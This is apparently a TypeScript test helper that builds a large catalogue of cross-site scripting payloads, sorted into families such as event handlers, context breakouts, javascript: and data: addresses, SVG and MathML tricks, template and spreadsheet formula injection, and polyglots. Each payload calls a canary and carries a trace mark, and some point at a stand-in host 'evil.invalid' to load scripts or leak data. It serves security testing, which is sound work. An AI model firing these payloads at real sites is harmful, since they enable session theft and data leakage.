/** Encloses every payload's mark; never appears in the product's own texts. */
const MARK = "~";
/** The global that payloads call; every page of the proof defines it and records the calls. */
export const CANARY = "__xss";

export interface Payload {
  readonly n: number;
  readonly family: string;
  readonly text: string;
  /** Separates the payload from its mark so that the payload still works. */
  readonly tail: "//" | "#";
}

type Made = (call: string) => string;

const entities = (text: string) =>
  text
    .split("")
    .map((letter) => `&#${letter.codePointAt(0)};`)
    .join("");
const hexEntities = (text: string) =>
  text
    .split("")
    .map((letter) => `&#x${hex(letter, 6)}`)
    .join("");
const escapes = (text: string) =>
  text
    .split("")
    .map((letter) => `\\u${hex(letter, 4)}`)
    .join("");
const percents = (text: string) =>
  text
    .split("")
    .map((letter) => `%${hex(letter, 2)}`)
    .join("");
const hex = (letter: string, digits: number) => letter.codePointAt(0)!.toString(16).padStart(digits, "0");
const base64 = (text: string) => Buffer.from(text).toString("base64");
/** Escapes only the first letter, so that it is still a valid identifier. */
const escapedName = (call: string) => call.replace(/^\w/, (letter) => escapes(letter));

/** Elements that load something, fail, and fire an error event. */
const LOADING = [
  "img src=x",
  "image src=x",
  "img srcset=x",
  "img/src=x",
  "video src=x",
  "audio src=x",
  "video><source src=x",
  "audio><source src=x",
  "input type=image src=x",
  "object data=x",
  "embed src=x:",
  "link rel=stylesheet href=x",
  "script src=x",
  "picture><img src=x",
  "track src=x",
  "svg><image href=x",
];
/** Elements with an event that fires without user interaction. */
const AT_ONCE = [
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onhashchange"],
  ["iframe", "onload"],
  ["style", "onload"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# autofocus", "onfocus"],
  ["div tabindex=0 autofocus", "onfocusin"],
  ["keygen autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["marquee loop=1 width=0", "onfinish"],
  ["marquee", "onbounce"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x dur=1s", "onbegin"],
  ["svg><animateTransform attributeName=x dur=1s", "onend"],
  ["xss style=animation-name:spin", "onanimationstart"],
  ["xss style=transition:1s", "ontransitionend"],
  ["dialog open", "onclose"],
  ["video autoplay", "onloadstart"],
  ["audio autoplay", "oncanplay"],
  ["frameset", "onload"],
  ["meta http-equiv=refresh content=0", "onload"],
  ["xss contenteditable autofocus", "onbeforeinput"],
  ["form><input name=attributes", "onfocus"],
  ["math><mtext", "onmouseenter"],
] as const;
/** Events that need user interaction; the detector finds their attributes in the page. */
const BY_HAND = [
  "onclick",
  "ondblclick",
  "onmouseover",
  "onmousemove",
  "onmousedown",
  "onmouseup",
  "onmouseout",
  "onpointerover",
  "onpointerdown",
  "onpointerrawupdate",
  "onkeydown",
  "onkeyup",
  "onkeypress",
  "oncopy",
  "oncut",
  "onpaste",
  "ondrag",
  "ondrop",
  "onwheel",
  "onscroll",
  "onscrollend",
  "oncontextmenu",
  "onauxclick",
  "onblur",
  "onchange",
  "oninput",
  "oninvalid",
  "onreset",
  "onselect",
  "onsubmit",
  "ontouchstart",
  "onbeforetoggle",
  "onsearch",
  "onresize",
  "onfullscreenchange",
] as const;
/** Ways to break out of the context of a value. */
const BREAKOUTS = [
  '">',
  "'>",
  "`>",
  ">",
  '"/>',
  "'/>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</iframe>",
  "</template>",
  "</xmp>",
  "</noembed>",
  "</noframes>",
  "</select>",
  "</svg>",
  "</math>",
  "-->",
  "--!>",
  "]]>",
  "]]&gt;",
  '"]>',
  "</option></select>",
  "</a>",
  "</td></table>",
  "\r\n\r\n",
  '\\">',
  "\\'>",
  "&quot;>",
  "&#39;>",
  '\u2028">',
] as const;
/** Addresses that a browser runs as a script. */
const SCRIPT_ADDRESSES: readonly Made[] = [
  (call) => `javascript:${call}`,
  (call) => `JavaScript:${call}`,
  (call) => `JAVASCRIPT:${call}`,
  (call) => `jAvAsCrIpT:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\tjavascript:${call}`,
  (call) => `\njavascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `\u001fjavascript:${call}`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `\ufeffjavascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java\rscript:${call}`,
  (call) => `javascript\t:${call}`,
  (call) => `javascript:\n${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript://example.com/%0d%0a${call}`,
  (call) => `javascript:/*https://example.com/*/${call}`,
  (call) => `javascript:%${hex(call, 2)}${call.slice(1)}`,
  (call) => `javascript:${percents(call)}`,
  (call) => `javascript:void(${call})`,
  (call) => `javascript:"<script>${call}</script>"`,
  (call) => `javascript:\`\${${call}}\``,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A;avascript:${call}`,
  (call) => `&#0000106avascript:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `${entities("javascript:")}${call}`,
  (call) => `${hexEntities("javascript:")}${call}`,
  (call) => `%6aavascript:${call}`,
  (call) => `\\u006aavascript:${call}`,
  (call) => `\\x6aavascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `jar:javascript:${call}`,
  (call) => `livescript:${call}`,
  (call) => `mocha:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `VbScript:msgbox ${call}`,
  (call) => `vb\tscript:${call}`,
];
const DATA_ADDRESSES: readonly Made[] = [
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${base64(`<script>opener.${call}</script>`)}`,
  (call) => `data:text/html;charset=utf-8,%3Cscript%3E${call}%3C/script%3E`,
  (call) => `data:text/html;charset=utf-16,<svg onload=${call}>`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)}`,
  (call) => `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${call}</script></x>`,
  (call) => `data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
  (call) => `data:,${call}`,
  (call) => `DATA:text/html,<img src=x onerror=${call}>`,
  (call) => `data:text/javascript,${call}`,
  (call) => `blob:null/${base64(call)}`,
  (call) => `filesystem:null/temporary/${call}`,
  (call) => `//evil.invalid/${call}.js`,
  (call) => `/\\evil.invalid/${call}`,
  (call) => `\\\\evil.invalid\\${call}`,
  (call) => `https:evil.invalid/${call}`,
  (call) => `https://evil.invalid/?${call}`,
  (call) => `http://teams.localhost@evil.invalid/${call}`,
  (call) => `.evil.invalid/${call}`,
];
const SCRIPTS: readonly Made[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script >${call}</script >`,
  (call) => `<script\t>${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script type=text/javascript>${call}</script>`,
  (call) => `<script language=vbscript>${call}</script>`,
  (call) => `<script nonce="">${call}</script>`,
  (call) => `<script>${escapedName(call)}</script>`,
  (call) => `<script><!--\n${call}\n--></script>`,
  (call) => `<script>//<![CDATA[\n${call}//]]></script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script src=data:,${call}></script>`,
  (call) => `<script src="data:text/javascript;base64,${base64(call)}"></script>`,
  (call) => `<script src=//evil.invalid/${call}.js></script>`,
  (call) => `<script>${call}`,
  (call) => `<script>setTimeout("${call}")</script>`,
  (call) => `<script>eval(atob("${base64(call)}"))</script>`,
  (call) => `<script>Function("${call}")()</script>`,
  (call) => `<script>import("data:text/javascript,${call}")</script>`,
  (call) => `<noscript><p title="</noscript><script>${call}</script>">`,
  (call) => `<template><script>${call}</script></template>`,
];
const NAMESPACES: readonly Made[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${entities(call)}</script></svg>`,
  (call) => `<svg><script href=data:,${call} />`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a></svg>`,
  (call) => `<svg><a><set attributeName=href to=javascript:${call} /><text y=20>x</text></a></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><desc><script>${call}</script></desc></svg>`,
  (call) => `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg\u000conload=${call}>`,
  (call) => `<svg onload\u000b=${call}>`,
  (call) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `<math><a xlink:href="javascript:${call}">x</a></math>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
  (call) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${call}">x</maction></math>`,
  (call) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  (call) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
];
const FRAMES: readonly Made[] = [
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
  (call) => `<frameset><frame src="javascript:parent.${call}"></frameset>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<object data="data:text/html;base64,${base64(`<script>parent.${call}</script>`)}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call}'/>">`,
  (call) => `<applet code="javascript:${call}"></applet>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv="refresh" content="0;url=https://evil.invalid/${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<base href="https://evil.invalid/${call}/">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<form id=f></form><button form=f formaction="javascript:${call}">x</button>`,
  (call) => `<isindex type=image src=x onerror=${call}>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="jav&#x09;ascript:${call}">x</a>`,
  (call) => `<a href="//evil.invalid/${call}" target=_top>x</a>`,
  (call) => `<area href="javascript:${call}" shape=default>`,
  (call) => `<link rel=import href="data:text/html,<script>${call}</script>">`,
  (call) => `<link rel=prefetch href="https://evil.invalid/${call}">`,
  (call) => `<img src="https://evil.invalid/${call}.png">`,
  (call) => `<portal src="javascript:${call}" onload=${call}></portal>`,
];
const STYLES: readonly Made[] = [
  (call) => `<style>@import "https://evil.invalid/${call}.css";</style>`,
  (call) => `<style>*{background:url("javascript:${call}")}</style>`,
  (call) => `<style>body{-moz-binding:url("https://evil.invalid/${call}#x")}</style>`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}"></b>`,
  (call) => `<div style="width:expression(${call})">`,
  (call) => `<div style="background:url(https://evil.invalid/${call})">`,
  (call) => `<div style="behavior:url(#default#time2)" onbegin="${call}">`,
  (call) => `red;background:url(https://evil.invalid/${call})`,
  (call) => `}*{background:url(https://evil.invalid/${call})}`,
  (call) => `";}</style><script>${call}</script>`,
  (call) => `\\3c script\\3e ${call}\\3c /script\\3e `,
];
const SCRIPT_CONTEXTS: readonly Made[] = [
  (call) => `";${call};"`,
  (call) => `';${call};'`,
  (call) => `\`;${call};\``,
  (call) => `\${${call}}`,
  (call) => `"-${call}-"`,
  (call) => `'-${call}-'`,
  (call) => `\\";${call}`,
  (call) => `\\';${call}`,
  (call) => `"});${call};({"`,
  (call) => `"}]};${call};//`,
  (call) => `*/${call}/*`,
  (call) => `\n${call}\n`,
  (call) => `\u2028${call}`,
  (call) => `\u2029${call}`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</script ><svg onload=${call}>`,
  (call) => `<!--<script>${call}//-->`,
  (call) => `<!--<script></script>${call}`,
  (call) => `{"x":"</script><img src=x onerror=${call}>"}`,
  (call) => `","constructor":{"prototype":{"x":"${call}"}},"`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$on.constructor('${call}')()}}`,
  (call) => `\${{${call}}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{%raw%}${call}{%endraw%}`,
  (call) => `{{{${call}}}}`,
  (call) => `[[${call}]]`,
  (call) => `__proto__[onload]=${call}`,
];
const MARKED_UP: readonly Made[] = [
  (call) => `[x](javascript:${call})`,
  (call) => `[x](<javascript:${call}>)`,
  (call) => `[x]( javascript:${call} "y")`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![x](javascript:${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[x]: javascript:${call}`,
  (call) => `[x](data:text/html;base64,${base64(`<script>${call}</script>`)})`,
  (call) => `\`\`\`"><img src=x onerror=${call}>\n\`\`\``,
  (call) => `~~~<svg onload=${call}>`,
  (call) => `[url=javascript:${call}]x[/url]`,
  (call) => `[img]x" onerror="${call}[/img]`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `&#x3c;img src=x onerror=${call}&#x3e;`,
  (call) => `&lt&#x2f;script&gt<img src=x onerror=${call}>`,
  (call) => `%3Cscript%3E${call}%3C%2Fscript%3E`,
  (call) => `%253Csvg%2520onload%253D${call}%253E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\\x3csvg onload=${call}\\x3e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<img src=x onerror=${entities(call)}>`,
  (call) => `<img src=x onerror=${hexEntities(call)}>`,
];
const UNICODE: readonly Made[] = [
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `\u02c2script\u02c3${call}`,
  (call) => `\u2039svg onload=${call}\u203a`,
  (call) => `<\u0455cript>${call}</\u0455cript>`,
  (call) => `<\u017fcript>${call}</\u017fcript>`,
  (call) => `<\u017fvg onload=${call}>`,
  (call) => `<\u212aeygen autofocus onfocus=${call}>`,
  (call) => `\u202e<svg onload=${call}>`,
  (call) => `\u2066<img src=x onerror=${call}>\u2069`,
  (call) => `<svg\u00a0onload=${call}>`,
  (call) => `<svg\u2000onload=${call}>`,
  (call) => `<img src=x\u3000onerror=${call}>`,
  (call) => `<img src=x onerror\u200b=${call}>`,
  (call) => `\ud83d\ude00<svg onload=${call}>`,
  (call) => `e\u0301"><svg onload=${call}>`,
  (call) => `\u{1f468}\u200d\u{1f469}<img src=x onerror=${call}>`,
  (call) => `\u338f\u338f"onfocus=${call} autofocus="`,
  (call) => `\ufe64img src=x onerror=${call}\ufe65`,
];
const SHEETS: readonly Made[] = [
  (call) => `=HYPERLINK("javascript:${call}","x")`,
  (call) => `=cmd|'/C ${call}'!A0`,
  (call) => `+${call}`,
  (call) => `-${call}`,
  (call) => `@SUM(${call})`,
  (call) => `\t=${call}`,
  (call) => `",<script>${call}</script>,"`,
  (call) => `"\r\n<svg onload=${call}>\r\n"`,
  (call) => `;"<img src=x onerror=${call}>";`,
  (call) => `=IMPORTXML(CONCAT("https://evil.invalid/",${call}),"//a")`,
];
const POLYGLOTS: readonly Made[] = [
  (call) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
  (call) =>
    `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=/*&lt;svg/*/onload=${call}//>`,
  (call) => `'">><marquee><img src=x onerror=${call}></marquee></plaintext\\></|\\><plaintext/onmouseover=${call}>`,
  (call) => `" onclick=${call}//<button ' onclick=${call}//> */ ${call}//`,
  (call) => `'";!--"<XSS onpointerenter=${call}>=&{()}`,
  (call) => `--></script></style></title></textarea><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
  (call) => `<!--" title="--><img src=x onerror=${call}>`,
  (call) => `<a title="</style><img src=x onerror=${call}>"><style>`,
  (call) => `<x/y="a>"b="<img src=x onerror=${call}>">`,
  (call) => `<img src="x\`>" onerror=${call}>\``,
];

const FAMILIES: Readonly<Record<string, readonly Made[]>> = {
  script: SCRIPTS,
  "event on loading": LOADING.map((element) => (call: string) => `<${element} onerror=${call}>`),
  "event at once": AT_ONCE.map(
    ([element, event]) =>
      (call: string) =>
        `<${element} ${event}=${call}>`,
  ),
  "event by hand": BY_HAND.map((event, at) => {
    const quote = ['"', "'", "`"][at % 3]!;
    // Half as separate elements, half breaking out of an attribute.
    return (call: string) =>
      at % 2 ? `<b ${event}=${quote}${call}${quote}>x</b>` : `${quote} ${event}=${call} x=${quote}`;
  }),
  breakout: BREAKOUTS.map((out, at) => {
    return (call: string) => `${out}${at % 2 ? `<svg onload=${call}>` : `<img src=x onerror=${call}>`}`;
  }),
  "script address": SCRIPT_ADDRESSES,
  "data address": DATA_ADDRESSES,
  namespace: NAMESPACES,
  frame: FRAMES,
  style: STYLES,
  "script context": SCRIPT_CONTEXTS,
  "marked up": MARKED_UP,
  unicode: UNICODE,
  sheet: SHEETS,
  polyglot: POLYGLOTS,
};

/** Every third payload opens a dialog, the others call the canary; neither must happen. */
const callOf = (n: number) =>
  n % 3 === 0 ? `${["alert", "confirm", "prompt"][(n / 3) % 3]}(${n})` : `${CANARY}(${n})`;

export const PAYLOADS: readonly Payload[] = Object.entries(FAMILIES)
  .flatMap(([family, all]) => all.map((made) => ({ family, made })))
  .map(({ family, made }, n) => ({
    n,
    family,
    text: made(callOf(n)),
    // Comments out the rest of a script; a data address ends at its fragment.
    tail: family === "data address" ? "#" : "//",
  }));

const distinct = new Set(PAYLOADS.map(({ text, n }) => text.replaceAll(callOf(n), "call"))).size;
if (distinct < PAYLOADS.length) throw new Error(`${PAYLOADS.length - distinct} payloads repeat another one`);

/** Payloads that are addresses, as a link or picture would use. */
export const ADDRESSES = PAYLOADS.filter(({ family }) => family.endsWith("address"));

/** A payload with a mark that identifies its field, so that a shown payload can be traced back. */
export const planted = ({ text, tail, n }: Payload, field: number): string =>
  `${text}${tail}${MARK}${field}.${n}${MARK}`;

/** Finds the marks in a page's text. */
export const MARKS = /~(\d+)\.(\d+)~/g;
